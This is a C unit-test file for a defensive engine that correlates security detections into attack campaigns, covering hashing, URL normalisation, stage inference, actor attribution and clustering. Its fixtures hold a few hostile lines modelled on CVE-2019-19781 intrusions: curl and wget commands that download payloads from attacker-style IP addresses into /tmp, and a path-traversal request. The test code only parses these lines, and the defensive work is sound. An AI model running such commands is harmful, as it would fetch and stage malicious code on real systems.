/*
 * test_campaign.c - the campaign engine: hashing and ids, value
 * normalisation, stage inference, attribution through links, execution
 * after exploitation, conflicts, benign values, clusters, determinism and
 * allocation discipline.
 */
#include "tt.h"

#include "correlate/cmp.h"
#include "trawl/campaign.h"
#include "trawl/log.h"

#define NS INT64_C(1000000000)
#define T0 (INT64_C(1579478400) * NS) /* 2020-01-20 */

/* ---- building detections ---- */

typedef struct det {
    tr_detection d;
    tr_kv fields[6];
    tr_str tags[6];
} det;

static void tags(det *x, const char *a, const char *b, const char *c)
{
    const char *v[3] = { a, b, c };
    x->d.ntags = 0;
    for (int i = 0; i < 3; i++)
        if (v[i])
            x->tags[x->d.ntags++] = tr_str_c(v[i]);
    x->d.tags = x->tags;
}

static void field(det *x, const char *k, const char *v)
{
    x->fields[x->d.nfields++] = (tr_kv){ tr_str_c(k), tr_str_c(v) };
    x->d.fields = x->fields;
}

static det sigma(const char *tenant, int64_t sec, const char *path, uint64_t rec,
                 const char *rule)
{
    det x;
    memset(&x, 0, sizeof(x));
    x.d.kind = TR_DET_SIGMA;
    x.d.ts = T0 + sec * NS;
    x.d.tenant = tr_str_c(tenant);
    x.d.rule_id = tr_str_c(rule);
    x.d.rule_title = tr_str_c(rule);
    x.d.level = TR_STR("high");
    x.d.path = tr_str_c(path);
    x.d.record = rec;
    x.d.line = rec + 1;
    x.d.logsource.category[0] = TR_STR("webserver");
    x.d.logsource.ncategory = 1;
    return x;
}

static det ioc(const char *tenant, int64_t sec, const char *path, uint64_t rec,
               const char *value, const char *type, const char *actor, tr_side side)
{
    det x = sigma(tenant, sec, path, rec, "ioc:ipv4");
    x.d.kind = TR_DET_IOC;
    x.d.rule_title = tr_str_c(value);
    x.d.indicator.value = tr_str_c(value);
    x.d.indicator.type = tr_str_c(type);
    x.d.indicator.feed = TR_STR("feed");
    x.d.indicator.actor = tr_str_c(actor ? actor : "");
    x.d.indicator.field = TR_STR("c-ip");
    x.d.indicator.side = (uint8_t)side;
    return x;
}

/* One fleet for every test (it must outlive the engines; kept reachable). */
static tr_fleet *fleet;

static tr_campaigns *engine(tr_campaign_policy *p)
{
    tr_campaigns *c = NULL;
    if (!fleet) {
        fleet = tr_fleet_new();
        char id[16];
        for (int i = 0; i < 40; i++) {
            snprintf(id, sizeof(id), "t%02d", i);
            tr_fleet_add(fleet, id, id, i % 2 ? "US" : "DE", i % 3 ? "healthcare" : "legal");
        }
    }
    if (tr_campaigns_new(p, fleet, &c) != TR_OK)
        return NULL;
    return c;
}

static const tr_campaign *find_actor(const tr_campaigns *c, const char *actor)
{
    for (size_t i = 0; i < tr_campaigns_count(c); i++) {
        const tr_campaign *cp = tr_campaigns_get(c, i);
        if (!cp->cluster && tr_str_eq(cp->actor, tr_str_c(actor)))
            return cp;
    }
    return NULL;
}

static const tr_cmp_tenant *find_tenant(const tr_campaign *cp, const char *id)
{
    for (uint32_t i = 0; cp && i < cp->ntenants; i++)
        if (tr_str_eq(cp->tenants[i].id, tr_str_c(id)))
            return &cp->tenants[i];
    return NULL;
}

/* ---- hashing and ids ---- */

static void hex(const uint8_t *p, size_t n, char *out)
{
    for (size_t i = 0; i < n; i++)
        snprintf(out + 2 * i, 3, "%02x", p[i]);
}

TEST(campaign_sha1_vectors)
{
    uint8_t h[20];
    char s[41];
    cm_sha1("abc", 3, h);
    hex(h, 20, s);
    CHECK_STR(s, "a9993e364706816aba3e25717850c26c9cd0d89d");
    cm_sha1("", 0, h);
    hex(h, 20, s);
    CHECK_STR(s, "da39a3ee5e6b4b0d3255bfef95601890afd80709");
    const char *m = "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq";
    cm_sha1(m, strlen(m), h);
    hex(h, 20, s);
    CHECK_STR(s, "84983e441c3bd26ebaae4aa1f95129e5e54670f1");
}

TEST(campaign_uuid5_stix_vectors)
{
    /* STIX 2.1 section 2.9 SCO namespace and the spec's examples */
    static const uint8_t sco[16] = { 0x00, 0xab, 0xed, 0xb4, 0xaa, 0x42, 0x46, 0x6c,
                                     0x9c, 0x01, 0xfe, 0xd2, 0x33, 0x15, 0xa9, 0xb7 };
    char u[37];
    const char *a = "{\"value\":\"198.51.100.3\"}";
    tr_uuid5(sco, a, strlen(a), u);
    CHECK_STR(u, "28bb3599-77cd-5a82-a950-b5bc3caf07c4");
    const char *b = "{\"value\":\"example.com\"}";
    tr_uuid5(sco, b, strlen(b), u);
    CHECK_STR(u, "bedb4899-d24b-5401-bc86-8f6b4cc18ec7");
}

TEST(campaign_uuid_namespace)
{
    /* RFC 9562 NAMESPACE_URL */
    static const uint8_t url[16] = { 0x6b, 0xa7, 0xb8, 0x11, 0x9d, 0xad, 0x11, 0xd1,
                                     0x80, 0xb4, 0x00, 0xc0, 0x4f, 0xd4, 0x30, 0xc8 };
    char u[37], ours[37];
    const char *n = "https://trawl.invalid/campaigns";
    tr_uuid5(url, n, strlen(n), u);
    snprintf(ours, sizeof(ours),
             "%02x%02x%02x%02x-%02x%02x-%02x%02x-%02x%02x-%02x%02x%02x%02x%02x%02x",
             cm_uuid_ns[0], cm_uuid_ns[1], cm_uuid_ns[2], cm_uuid_ns[3], cm_uuid_ns[4],
             cm_uuid_ns[5], cm_uuid_ns[6], cm_uuid_ns[7], cm_uuid_ns[8], cm_uuid_ns[9],
             cm_uuid_ns[10], cm_uuid_ns[11], cm_uuid_ns[12], cm_uuid_ns[13], cm_uuid_ns[14],
             cm_uuid_ns[15]);
    CHECK_STR(u, ours);
}

/* ---- values ---- */

TEST(campaign_url_normalisation)
{
    tr_buf b = TR_BUF_INIT;
    tr_str host;
    CHECK(cm_url_norm(TR_STR("FTP://test:secret@66.42.98.220/./bsd"), &b, &host));
    CHECK_STR(b.p, "ftp://66.42.98.220/bsd");
    CHECK_SLICE(host, "66.42.98.220");
    CHECK(cm_url_norm(TR_STR("http://Example.COM:80/a/b/../c?x=1#frag"), &b, &host));
    CHECK_STR(b.p, "http://example.com/a/c?x=1");
    CHECK(cm_url_norm(TR_STR("http://66.42.98.220:12345/test/install.bat"), &b, NULL));
    CHECK_STR(b.p, "http://66.42.98.220:12345/test/install.bat");
    CHECK(cm_url_norm(TR_STR("https://h.example"), &b, NULL));
    CHECK_STR(b.p, "https://h.example/");
    CHECK(!cm_url_norm(TR_STR("/vpn/../vpns/cfg/smb.conf"), &b, NULL));
    CHECK(!cm_url_norm(TR_STR("http://"), &b, NULL));
    tr_buf_release(&b);
}

TEST(campaign_public_addresses)
{
    CHECK(cm_ip_public(TR_STR("66.42.98.220")));
    CHECK(cm_ip_public(TR_STR("203.0.113.9"))); /* documentation ranges stand for Internet */
    CHECK(!cm_ip_public(TR_STR("10.1.2.3")));
    CHECK(!cm_ip_public(TR_STR("172.20.0.1")));
    CHECK(!cm_ip_public(TR_STR("192.168.1.1")));
    CHECK(!cm_ip_public(TR_STR("127.0.0.1")));
    CHECK(!cm_ip_public(TR_STR("100.64.0.1")));
    CHECK(!cm_ip_public(TR_STR("169.254.1.1")));
    CHECK(!cm_ip_public(TR_STR("239.1.1.1")));
    CHECK(!cm_ip_public(TR_STR("1.2.3")));
    CHECK(!cm_ip_public(TR_STR("01.2.3.4")));
    CHECK(cm_ip_public(TR_STR("2001:db8::1")));
    CHECK(!cm_ip_public(TR_STR("fe80::1")));
    CHECK(!cm_ip_public(TR_STR("::ffff:10.0.0.1")));
}

/* ---- stages ---- */

TEST(campaign_stage_inference)
{
    tr_campaign_policy *p = tr_campaign_policy_new();
    CHECK(p);
    CHECK_EQ(tr_campaign_policy_stage_rule(p, "override", TR_STAGE_EXPLOITED), TR_OK);
    CHECK_EQ(tr_campaign_policy_stage_tag(p, "custom.noise", TR_STAGE_NONE), TR_OK);
    CHECK_EQ(tr_campaign_policy_stage_indicator(p, "domain", "destination", TR_STAGE_TARGETED),
             TR_OK);
    CHECK_EQ(tr_campaign_policy_stage_indicator(p, "x", "sideways", TR_STAGE_TARGETED), TR_EINVAL);
    tr_campaigns *c = engine(p);
    CHECK(c);
    det d[9];
    d[0] = sigma("t01", 0, "a.log", 0, "r-stage");
    tags(&d[0], "attack.execution", "stage.exploited", NULL); /* stage.* wins over tactics */
    d[1] = sigma("t01", 1, "a.log", 1, "r-tactic");
    tags(&d[1], "attack.persistence", NULL, NULL);
    d[2] = sigma("t01", 2, "a.log", 2, "r-initial");
    tags(&d[2], "attack.initial-access", "attack.t1190", NULL);
    d[3] = ioc("t01", 3, "a.log", 3, "1.2.3.4", "ipv4", NULL, TR_SIDE_SRC);
    d[4] = ioc("t01", 4, "a.log", 4, "1.2.3.5", "ipv4", NULL, TR_SIDE_DST);
    d[5] = ioc("t01", 5, "a.log", 5, "d41d8cd98f00b204e9800998ecf8427e", "md5", NULL,
               TR_SIDE_NONE);
    d[6] = sigma("t01", 6, "a.log", 6, "override");
    tags(&d[6], "stage.compromised", NULL, NULL);
    d[7] = sigma("t01", 7, "a.log", 7, "r-noise");
    tags(&d[7], "custom.noise", "stage.compromised", NULL);
    d[8] = ioc("t01", 8, "a.log", 8, "evil.example", "domain", NULL, TR_SIDE_DST);
    for (int i = 0; i < 9; i++)
        CHECK_EQ(tr_campaigns_add(c, &d[i].d), TR_OK);
    CHECK_EQ(tr_campaigns_run(c), TR_OK);
    const tr_cmp_summary *s = tr_campaigns_summary(c);
    CHECK_EQ(s->ignored, 1); /* custom.noise */
    CHECK_EQ(s->detections, 8);
    static const tr_stage want[] = { TR_STAGE_EXPLOITED,    TR_STAGE_COMPROMISED,
                                     TR_STAGE_TARGETED,     TR_STAGE_TARGETED,
                                     TR_STAGE_COMPROMISED,  TR_STAGE_COMPROMISED,
                                     TR_STAGE_EXPLOITED,    TR_STAGE_TARGETED };
    /* kept detections are in canonical (time) order */
    for (uint32_t i = 0; i < 8; i++) {
        tr_cmp_det x;
        CHECK_EQ(tr_campaigns_detection(c, i, &x), TR_OK);
        CHECK_MSG(x.stage == want[i], "detection %u: stage %s, want %s", i,
                  tr_stage_name(x.stage), tr_stage_name(want[i]));
    }
    tr_campaigns_free(c);
    tr_campaign_policy_free(p);
}

/* ---- attribution ---- */

TEST(campaign_attribution_through_links)
{
    tr_campaigns *c = engine(NULL);
    CHECK(c);
    det d[8];
    /* t01: the actor's attempt, an indicator match on the same record */
    d[0] = sigma("t01", 0, "t01/web.log", 5, "attempt");
    tags(&d[0], "cve.2019-19781", "stage.targeted", NULL);
    field(&d[0], "c-ip", "66.42.98.220");
    d[1] = ioc("t01", 0, "t01/web.log", 5, "66.42.98.220", "ipv4", "G0096", TR_SIDE_SRC);
    field(&d[1], "c-ip", "66.42.98.220");
    /* t02: the same address, no indicator match (another log): shared value */
    d[2] = sigma("t02", 3600, "t02/web.log", 9, "vulnerable");
    tags(&d[2], "cve.2019-19781", "stage.exploited", NULL);
    field(&d[2], "c-ip", "66.42.98.220");
    /* t02: a shell command right after, no infrastructure: execution after exploitation */
    d[3] = sigma("t02", 3601, "t02/bash.log", 1, "shell");
    tags(&d[3], "cve.2019-19781", "stage.compromised", NULL);
    field(&d[3], "host", "adc-1");
    field(&d[3], "message", "nobody on (null) shell_command=\"file /bin/pwd\"");
    /* t03: a scanner on the same CVE: not the actor's */
    d[4] = sigma("t03", 7200, "t03/web.log", 2, "attempt");
    tags(&d[4], "cve.2019-19781", "stage.targeted", NULL);
    field(&d[4], "c-ip", "45.9.8.7");
    /* t03: a shell command 30 min later: beyond the execution window */
    d[5] = sigma("t03", 7200 + 1800, "t03/bash.log", 3, "shell");
    tags(&d[5], "cve.2019-19781", "stage.compromised", NULL);
    /* t04: the actor's group tag on a rule */
    d[6] = sigma("t04", 50, "t04/sysmon.jsonl", 1, "storsyncsvc");
    tags(&d[6], "attack.g0096", "stage.compromised", NULL);
    d[6].d.logsource.product = TR_STR("windows");
    for (int i = 0; i < 7; i++)
        CHECK_EQ(tr_campaigns_add(c, &d[i].d), TR_OK);
    CHECK_EQ(tr_campaigns_run(c), TR_OK);
    const tr_campaign *cp = find_actor(c, "APT41");
    CHECK(cp);
    CHECK_EQ(cp->ntenants, 3);
    CHECK(find_tenant(cp, "t01") && find_tenant(cp, "t01")->stage == TR_STAGE_TARGETED);
    CHECK(find_tenant(cp, "t02") && find_tenant(cp, "t02")->stage == TR_STAGE_COMPROMISED);
    CHECK(find_tenant(cp, "t04") && find_tenant(cp, "t04")->stage == TR_STAGE_COMPROMISED);
    CHECK(!find_tenant(cp, "t03"));
    CHECK_EQ(cp->ncompromised, 2);
    CHECK_EQ(cp->ncves, 1);
    CHECK_SLICE(cp->cves[0].cve, "CVE-2019-19781");
    CHECK_EQ(cp->cves[0].targeted, 2);
    CHECK_EQ(cp->cves[0].exploited, 1);
    CHECK_EQ(cp->cves[0].compromised, 1);
    CHECK_EQ(cp->first_seen, T0);
    CHECK_EQ(cp->last_seen, T0 + 3600 * NS);
    /* why t02's shell command is in: execution after exploitation */
    const tr_cmp_tenant *t = find_tenant(cp, "t02");
    bool exec = false;
    for (uint32_t k = 0; k < t->nevidence; k++)
        exec |= t->evidence[k].why == TR_WHY_EXEC_AFTER &&
                tr_str_eq(t->evidence[k].via_value, TR_STR("CVE-2019-19781"));
    CHECK(exec);
    CHECK(strncmp(cp->id, "campaign--", 10) == 0);
    tr_campaigns_free(c);
}

TEST(campaign_conflicting_seeds)
{
    tr_campaigns *c = engine(NULL);
    CHECK(c);
    det d[3];
    d[0] = ioc("t01", 0, "a.log", 1, "9.9.9.1", "ipv4", "APT41", TR_SIDE_SRC);
    field(&d[0], "c-ip", "9.9.9.1");
    field(&d[0], "cs-uri-query", "/x?u=http://shared.example/p");
    d[1] = ioc("t02", 10, "b.log", 1, "9.9.9.2", "ipv4", "APT29", TR_SIDE_SRC);
    field(&d[1], "c-ip", "9.9.9.2");
    field(&d[1], "cs-uri-query", "/y?u=http://shared.example/p");
    d[2] = sigma("t03", 20, "c.log", 1, "plain");
    field(&d[2], "c-ip", "9.9.9.2");
    for (int i = 0; i < 3; i++)
        CHECK_EQ(tr_campaigns_add(c, &d[i].d), TR_OK);
    CHECK_EQ(tr_campaigns_run(c), TR_OK);
    const tr_cmp_summary *s = tr_campaigns_summary(c);
    CHECK_EQ(s->nconflicts, 1);
    CHECK(strstr(s->conflicts[0].text, "APT41") && strstr(s->conflicts[0].text, "APT29"));
    /* each seed keeps its own actor; the unseeded detection is attributed to neither */
    const tr_campaign *a = find_actor(c, "APT41"), *b = find_actor(c, "APT29");
    CHECK(a && b);
    CHECK_EQ(a->ntenants, 1);
    CHECK_EQ(b->ntenants, 1);
    CHECK(!find_tenant(a, "t03") && !find_tenant(b, "t03"));
    tr_campaigns_free(c);
}

/* ---- clustering ---- */

TEST(campaign_benign_values_and_clusters)
{
    tr_campaigns *c = engine(NULL);
    CHECK(c);
    char tenant[16], path[32];
    /* a scanner at 30 of 30 active tenants, never a compromise: benign */
    for (int i = 0; i < 30; i++) {
        snprintf(tenant, sizeof(tenant), "t%02d", i);
        snprintf(path, sizeof(path), "%s/web.log", tenant);
        det x = sigma(tenant, i, path, 1, "probe");
        tags(&x, "cve.2019-19781", "stage.exploited", NULL);
        field(&x, "c-ip", "131.47.190.164");
        CHECK_EQ(tr_campaigns_add(c, &x.d), TR_OK);
    }
    /* an unattributed actor at 3 tenants: address and payload URL, one compromise */
    for (int i = 0; i < 3; i++) {
        snprintf(tenant, sizeof(tenant), "t%02d", i);
        snprintf(path, sizeof(path), "%s/web.log", tenant);
        det x = sigma(tenant, 100 + i, path, 2, "attempt");
        tags(&x, "cve.2019-19781", "stage.targeted", NULL);
        field(&x, "c-ip", "93.175.230.212");
        CHECK_EQ(tr_campaigns_add(c, &x.d), TR_OK);
    }
    det y = sigma("t00", 200, "t00/bash.log", 1, "shell");
    tags(&y, "cve.2019-19781", "stage.compromised", NULL);
    field(&y, "message", "curl -k https://93.175.230.212/wp-content/piz.Lan -o /tmp/.init");
    CHECK_EQ(tr_campaigns_add(c, &y.d), TR_OK);
    /* the same payload host, 60 days later at another tenant: past the cluster gap */
    det z = sigma("t05", 60 * 86400, "t05/bash.log", 1, "shell");
    tags(&z, "cve.2019-19781", "stage.compromised", NULL);
    field(&z, "message", "wget http://93.175.230.212/x");
    CHECK_EQ(tr_campaigns_add(c, &z.d), TR_OK);
    CHECK_EQ(tr_campaigns_run(c), TR_OK);
    const tr_cmp_summary *s = tr_campaigns_summary(c);
    CHECK_EQ(s->nbenign, 1);
    CHECK_SLICE(s->benign[0].value, "131.47.190.164");
    CHECK_EQ(s->benign[0].tenants, 30);
    /* two clusters: the 3-tenant one (with its compromise), and the lone later compromise */
    CHECK_EQ(tr_campaigns_count(c), 2);
    const tr_campaign *k = tr_campaigns_get(c, 0);
    CHECK(k->cluster);
    CHECK_EQ(k->ntenants, 3);
    CHECK_EQ(k->ncompromised, 1);
    CHECK_SLICE(k->seed, "93.175.230.212");
    CHECK(k->actor.n == 0);
    bool url = false;
    for (uint32_t i = 0; i < k->ninfra; i++)
        url |= tr_str_eq(k->infra[i].value, TR_STR("https://93.175.230.212/wp-content/piz.Lan"));
    CHECK(url);
    const tr_campaign *l = tr_campaigns_get(c, 1);
    CHECK_EQ(l->ntenants, 1);
    CHECK_EQ(l->ncompromised, 1);
    CHECK(strcmp(k->id, l->id) != 0);
    /* the benign scanner's probes stay out of every cluster */
    CHECK(!find_tenant(k, "t10"));
    tr_campaigns_free(c);
}

/* ---- determinism and allocation ---- */

static tr_err run_order(bool reverse, char *ids, size_t n)
{
    tr_campaigns *c = engine(NULL);
    if (!c)
        return TR_ENOMEM;
    det d[40];
    for (int i = 0; i < 40; i++) {
        char *tenant = tr_malloc(8), *path = tr_malloc(24), *ip = tr_malloc(24);
        snprintf(tenant, 8, "t%02d", i % 10);
        snprintf(path, 24, "%s/w.log", tenant);
        snprintf(ip, 24, "7.7.%d.%d", i % 3, i % 2);
        d[i] = i % 4 ? sigma(tenant, i * 10, path, (uint64_t)i, "attempt")
                     : ioc(tenant, i * 10, path, (uint64_t)i, ip, "ipv4", "APT41", TR_SIDE_SRC);
        if (i % 4)
            tags(&d[i], "cve.2019-19781", "stage.targeted", NULL);
        field(&d[i], "c-ip", ip);
    }
    for (int k = 0; k < 40; k++)
        tr_campaigns_add(c, &d[reverse ? 39 - k : k].d);
    tr_err err = tr_campaigns_run(c);
    size_t o = 0;
    for (size_t i = 0; !err && i < tr_campaigns_count(c); i++) {
        const tr_campaign *cp = tr_campaigns_get(c, i);
        o += (size_t)snprintf(ids + o, n - o, "%s:%u:%u;", cp->id, cp->ntenants, cp->detections);
    }
    for (int i = 0; i < 40; i++) {
        tr_free((void *)d[i].d.tenant.p);
        tr_free((void *)d[i].d.path.p);
        tr_free((void *)d[i].fields[0].value.p);
    }
    tr_campaigns_free(c);
    return err;
}

TEST(campaign_order_independent)
{
    char a[4096], b[4096];
    CHECK_EQ(run_order(false, a, sizeof(a)), TR_OK);
    CHECK_EQ(run_order(true, b, sizeof(b)), TR_OK);
    CHECK_STR(a, b);
    CHECK(strstr(a, "campaign--"));
}

TEST(campaign_no_allocation_per_detection)
{
    tr_campaigns *c = engine(NULL);
    CHECK(c);
    det x = sigma("t01", 0, "t01/web.log", 0, "attempt");
    tags(&x, "cve.2019-19781", "stage.targeted", NULL);
    field(&x, "c-ip", "66.42.98.220");
    field(&x, "CommandLine", "curl http://66.42.98.220/a.sh");
    /* warm up, then 20,000 more: only amortised array growth may allocate */
    for (int i = 0; i < 100; i++) {
        x.d.record = (uint64_t)i;
        CHECK_EQ(tr_campaigns_add(c, &x.d), TR_OK);
    }
    uint64_t before = tr_alloc_count();
    for (int i = 100; i < 20100; i++) {
        x.d.record = (uint64_t)i;
        x.d.ts += NS;
        CHECK_EQ(tr_campaigns_add(c, &x.d), TR_OK);
    }
    uint64_t allocs = tr_alloc_count() - before;
    CHECK_MSG(allocs < 64, "%llu allocations for 20,000 detections",
              (unsigned long long)allocs);
    /* an exact duplicate (same id) is counted, not kept */
    CHECK_EQ(tr_campaigns_add(c, &x.d), TR_OK);
    CHECK_EQ(tr_campaigns_summary(c)->duplicates, 1);
    CHECK_EQ(tr_campaigns_run(c), TR_OK);
    CHECK_EQ(tr_campaigns_add(c, &x.d), TR_EINVAL);
    tr_campaigns_free(c);
}

/* ---- policy file and JSON-lines reader ---- */

TEST(campaign_policy_file)
{
    char path[512], err[600];
    tr_campaign_policy *p = tr_campaign_policy_new();
    CHECK(p);
    snprintf(path, sizeof(path), "%s/campaign/policy.yml", tt_datadir());
    CHECK_EQ(tr_campaign_policy_load(p, path, err, sizeof(err)), TR_OK);
    const tr_campaign_params *pp = tr_campaign_policy_params(p);
    CHECK_EQ(pp->exec_window, 600 * NS);
    CHECK_EQ(pp->link_window, 14 * 86400 * NS);
    CHECK_EQ(pp->cluster_min_tenants, 2);
    tr_campaign_policy_free(p);

    p = tr_campaign_policy_new();
    snprintf(path, sizeof(path), "%s/campaign/bad-policy.yml", tt_datadir());
    CHECK_EQ(tr_campaign_policy_load(p, path, err, sizeof(err)), TR_EPARSE);
    CHECK_MSG(strstr(err, "bad-policy.yml:3: unknown stage 'owned'"), "%s", err);
    snprintf(path, sizeof(path), "%s/campaign/no-such-policy.yml", tt_datadir());
    CHECK_EQ(tr_campaign_policy_load(p, path, err, sizeof(err)), TR_ENOENT);
    /* windows and thresholds are validated */
    char tmp[512];
    snprintf(tmp, sizeof(tmp), "%s/p.yml", tt_tmpdir());
    FILE *f = fopen(tmp, "w");
    CHECK(f);
    fputs("windows:\n  exec: 10 minutes\n", f);
    fclose(f);
    CHECK_EQ(tr_campaign_policy_load(p, tmp, err, sizeof(err)), TR_EPARSE);
    CHECK_MSG(strstr(err, "p.yml:2: bad duration"), "%s", err);
    f = fopen(tmp, "w");
    fputs("thresholds:\n  benign_share: 2\nactors: [G0096]\n", f);
    fclose(f);
    CHECK_EQ(tr_campaign_policy_load(p, tmp, err, sizeof(err)), TR_EPARSE);
    CHECK_MSG(strstr(err, "p.yml:2: expected a number from 0 to 1"), "%s", err);
    f = fopen(tmp, "w");
    fputs("stages:\n  indicators:\n    - {type: ipv4, side: up, stage: targeted}\n", f);
    fclose(f);
    CHECK_EQ(tr_campaign_policy_load(p, tmp, err, sizeof(err)), TR_EPARSE);
    CHECK_MSG(strstr(err, "p.yml:3: stages.indicators: side must be"), "%s", err);
    tr_campaign_policy_free(p);
}

static tr_err count_det(void *ctx, const tr_detection *d)
{
    uint64_t *n = ctx;
    (*n)++;
    return d->tenant.n && d->rule_id.n ? TR_OK : TR_EINVAL;
}

TEST(campaign_jsonl_reader)
{
    char path[512];
    uint64_t n = 0, bad = 0;
    snprintf(path, sizeof(path), "%s/campaign/small.jsonl", tt_datadir());
    CHECK_EQ(tr_detections_read_jsonl(path, count_det, &n, &bad), TR_OK);
    CHECK_EQ(n, 12);
    CHECK_EQ(bad, 0);
    n = 0;
    snprintf(path, sizeof(path), "%s/campaign/small-bad.jsonl", tt_datadir());
    tr_log_set_level(TR_LOG_ERROR); /* the two bad lines are reported as warnings */
    CHECK_EQ(tr_detections_read_jsonl(path, count_det, &n, &bad), TR_OK);
    tr_log_set_level(TR_LOG_WARN);
    CHECK_EQ(n, 12);
    CHECK_EQ(bad, 2);
    snprintf(path, sizeof(path), "%s/campaign/none.jsonl", tt_datadir());
    CHECK_EQ(tr_detections_read_jsonl(path, count_det, &n, &bad), TR_ENOENT);
}
